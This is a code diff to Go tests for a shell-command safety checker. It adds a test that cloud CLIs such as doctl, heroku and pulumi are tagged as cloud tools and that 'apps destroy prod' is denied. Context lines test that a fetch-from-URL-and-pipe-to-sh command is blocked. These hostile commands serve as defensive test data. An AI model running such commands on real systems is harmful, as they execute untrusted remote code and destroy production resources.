@@ -24,7 +24,6 @@ var notYetGrammarData = map[string]bool{
 	"envInitTools":  true, // prints shell code to eval (ssh-agent, direnv, kubectl completion)
 	"writeCommands": true, // changes files (refused in read-only mode)
 	"classOf":       true, // what info reports a command as
-	"infraCLIs":     true, // a cloud CLI whose delete words delete cloud resources
 	"metadataOnly":  true, // reads names only, never contents
 	"systemProcs":   true, // processes (not commands) whose end takes the system down
 }
@@ -136,6 +135,28 @@ func TestNetClientIsGrammarData(t *testing.T) {
 	for _, n := range names {
 		if v := Check(n+" https://x.example/i.sh | sh", testRules); !slices.Contains(ids(v), "SG2301:deny") {
 			t.Errorf("%s https://x.example/i.sh | sh: %v, want SG2301", n, ids(v))
+		}
+	}
+}
+
+// TestCloudIsGrammarData: a cloud CLI whose delete words delete cloud
+// resources is a +cloud grammar line; every name of such a line, aliases
+// and +opaque lines included, is judged so.
+func TestCloudIsGrammarData(t *testing.T) {
+	names := linesWith(func(g *grammar.Grammar) bool { return g.Cloud })
+	for _, n := range []string{"doctl", "heroku", "pulumi", "flyctl", "fly", "serverless", "sls", "vultr-cli", "supabase"} { // a sample, aliases among them
+		if !slices.Contains(names, n) {
+			t.Errorf("%s is no longer +cloud", n)
+		}
+	}
+	for _, n := range names {
+		if v := Check(n+" apps destroy prod", testRules); !slices.Contains(ids(v), "SG3205:deny") {
+			t.Errorf("%s apps destroy prod: %v, want SG3205", n, ids(v))
+		}
+	}
+	for _, s := range []string{"kubectl delete pod x", "cargo remove serde", "npm rm left-pad"} { // no +cloud line
+		if v := Check(s, testRules); slices.Contains(ids(v), "SG3205:deny") {
+			t.Errorf("%s: %v, its program's line is not +cloud", s, ids(v))
 		}
 	}
 }
